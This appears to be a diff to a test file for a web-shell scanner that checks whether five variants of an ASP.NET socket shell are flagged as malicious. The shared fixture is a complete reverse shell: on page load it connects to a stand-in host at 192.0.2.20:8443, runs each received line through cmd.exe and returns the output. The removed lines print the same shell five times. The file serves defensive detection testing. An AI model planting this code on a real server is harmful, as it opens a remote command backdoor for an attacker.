@@ -8,88 +8,34 @@ import { createScanner } from './scanner.js';
 const scanner = createScanner({});
 const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
 
+// The socket shell the red team varied (set W's shape, written again in families-s29u.test.ts), and its
+// variants: [what, the text replaced, its replacement]
+const SOCKET_SHELL = `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
+    var buf = new byte[4096]; int n;
+    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
+      var line = Encoding.UTF8.GetString(buf, 0, n);
+      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
+      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
+      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
+      ns.Write(res, 0, res.Length);
+    }
+  }
+}
+</script>`;
+const SOCKET_VARIANTS: [string, string, string][] = [
+  ['S29W-16: ev30_sock_slash_r.aspx, cmd /r', '"/c " + line', '"/r " + line'],
+  ['S29W-17: ev31_sock_format.aspx, string.Format', '"/c " + line', 'string.Format("/c {0}", line)'],
+  ['S29W-17: ev32_sock_interp.aspx, an interpolated string', '"/c " + line', '$"/c {line}"'],
+  ['S29W-18: ev34_sock_readasync.aspx, ReadToEndAsync', 'p.StandardOutput.ReadToEnd()', 'p.StandardOutput.ReadToEndAsync().Result'],
+  ['S29W-19: ev35_sock_client_send.aspx, Client.Send', 'ns.Write(res, 0, res.Length);', 'c.Client.Send(res);'],
+];
+
 // [what, the rule, path, the file]
 const CAUGHT: [string, string, string, string][] = [
-  ['S29W-16: ev30_sock_slash_r.aspx', 'mamori_aspx_socket_shell', '/www/ev30_sock_slash_r.aspx', `<%@ Page Language="C#" %>
-<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
-<script runat="server">
-void Page_Load(object o, EventArgs e) {
-  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
-    var buf = new byte[4096]; int n;
-    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
-      var line = Encoding.UTF8.GetString(buf, 0, n);
-      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/r " + line;
-      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
-      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
-      ns.Write(res, 0, res.Length);
-    }
-  }
-}
-</script>`],
-  ['S29W-17: ev31_sock_format.aspx', 'mamori_aspx_socket_shell', '/www/ev31_sock_format.aspx', `<%@ Page Language="C#" %>
-<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
-<script runat="server">
-void Page_Load(object o, EventArgs e) {
-  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
-    var buf = new byte[4096]; int n;
-    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
-      var line = Encoding.UTF8.GetString(buf, 0, n);
-      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = string.Format("/c {0}", line);
-      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
-      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
-      ns.Write(res, 0, res.Length);
-    }
-  }
-}
-</script>`],
-  ['S29W-17: ev32_sock_interp.aspx', 'mamori_aspx_socket_shell', '/www/ev32_sock_interp.aspx', `<%@ Page Language="C#" %>
-<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
-<script runat="server">
-void Page_Load(object o, EventArgs e) {
-  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
-    var buf = new byte[4096]; int n;
-    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
-      var line = Encoding.UTF8.GetString(buf, 0, n);
-      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = $"/c {line}";
-      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
-      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
-      ns.Write(res, 0, res.Length);
-    }
-  }
-}
-</script>`],
-  ['S29W-18: ev34_sock_readasync.aspx', 'mamori_aspx_socket_shell', '/www/ev34_sock_readasync.aspx', `<%@ Page Language="C#" %>
-<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
-<script runat="server">
-void Page_Load(object o, EventArgs e) {
-  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
-    var buf = new byte[4096]; int n;
-    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
-      var line = Encoding.UTF8.GetString(buf, 0, n);
-      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
-      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
-      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEndAsync().Result);
-      ns.Write(res, 0, res.Length);
-    }
-  }
-}
-</script>`],
-  ['S29W-19: ev35_sock_client_send.aspx', 'mamori_aspx_socket_shell', '/www/ev35_sock_client_send.aspx', `<%@ Page Language="C#" %>
-<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
-<script runat="server">
-void Page_Load(object o, EventArgs e) {
-  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
-    var buf = new byte[4096]; int n;
-    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
-      var line = Encoding.UTF8.GetString(buf, 0, n);
-      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
-      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
-      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
-      c.Client.Send(res);
-    }
-  }
-}
-</script>`],
   ['S29W-22: ev50_pt_case_paren.php', 'mamori_php_pseudo_terminal', '/www/ev50_pt_case_paren.php', `<?php
 session_start();
 function fs_list($d) { return implode("\\n", scandir($d)); }
@@ -540,6 +486,14 @@ describe('scan: session 29\'s third red team (S29W)', () => {
       assert.equal(cs.verdict, 'malicious', JSON.stringify(cs.findings));
     });
   }
+  for (const [name, from, to] of SOCKET_VARIANTS) {
+    it(`malicious: ${name}`, () => {
+      assert.ok(SOCKET_SHELL.includes(from), from);
+      const r = scan(SOCKET_SHELL.replace(from, to), '/www/s.aspx');
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === 'mamori_aspx_socket_shell'), JSON.stringify(r.findings));
+    });
+  }
   for (const [name, rule, path, src] of CAUGHT) {
     it(`malicious: ${name}`, () => {
       const r = scan(src, path);
@@ -562,7 +516,7 @@ describe('scan: session 29\'s third red team (S29W)', () => {
     assert.equal(memory.verdict, 'clean', JSON.stringify(memory.findings));
   });
   it('ran every case', () => {
-    assert.equal(CAUGHT.length, 8);
+    assert.equal(CAUGHT.length + SOCKET_VARIANTS.length, 8);
     assert.equal(BENIGN.length, 8);
     assert.equal(SPACE.length + UNICODE.length, 7);
   });
